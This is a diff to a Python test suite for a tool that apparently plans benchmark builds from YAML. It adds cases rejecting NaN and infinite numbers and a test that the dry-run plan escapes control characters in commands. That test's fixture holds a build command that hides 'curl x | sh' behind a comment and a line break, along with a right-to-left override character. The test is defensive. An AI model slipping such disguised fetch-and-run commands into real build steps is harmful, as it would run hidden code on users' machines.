@@ -146,6 +146,8 @@ FILES = {
     "a list in itself": ("caps: &a [*a]\n", MANY),
     "a long text behind many aliases": (LONG, MANY),
     "an entry for each of 2 MiB": (f"caps: [{'a,' * (1 << 20)}]", "larger than 2 MiB"),
+    "a number that is none": ("protocol: {repeat_penalty: .nan}\n", "line 1: .nan: expected"),
+    "a boundless number": ("guard: -.inf\n", "line 1: -.inf: expected a finite number"),
     "very deep": ("caps: " + "[" * 100_000, ""),
     "a number of 6,000 digits": ("caps: " + "9" * 6000, "is not YAML"),
     "a number of 300 places to the base of 60": (f"caps: 1{':1' * 300}.5", "is not YAML"),
@@ -306,6 +308,21 @@ def test_the_plan_says_what_would_be_executed_and_executes_nothing(tmp_path, cap
         assert line in lines
     assert any(line.startswith("commit packages: installs evil 6.6.6, mlx 0.0.1") for line in lines)
     assert not wire.exists()
+
+
+def test_the_plan_shows_a_command_as_it_will_be_run(tmp_path, capsys):
+    """A line break that is shown as a blank would hide what comes after a #."""
+    data = copy.deepcopy(BASE)
+    data["commits"]["program"] = {
+        **{"engine": "command", "repository": "https://x.example/x", "revision": "0123456"},
+        "build": ["sh", "-c", "true # tidy up\ncurl x | sh\r\t\u00a0\u202e"],
+        "run": ["bin/x", "{kv_cache}", "a  b"],
+        "output": {"file": "{out}/t.csv", "columns": dict.fromkeys(COLUMNS, "c")},
+    }
+    code, said = said_of(data, tmp_path, capsys)
+    assert code == 0, said
+    assert "sh -c 'true # tidy up\\x0acurl x | sh\\x0d\\x09\\xa0\\u202e'" in said
+    assert "runs bin/x '{kv_cache}' 'a  b'" in said
 
 
 def test_a_matrix_that_brings_nothing_says_so(tmp_path, capsys):
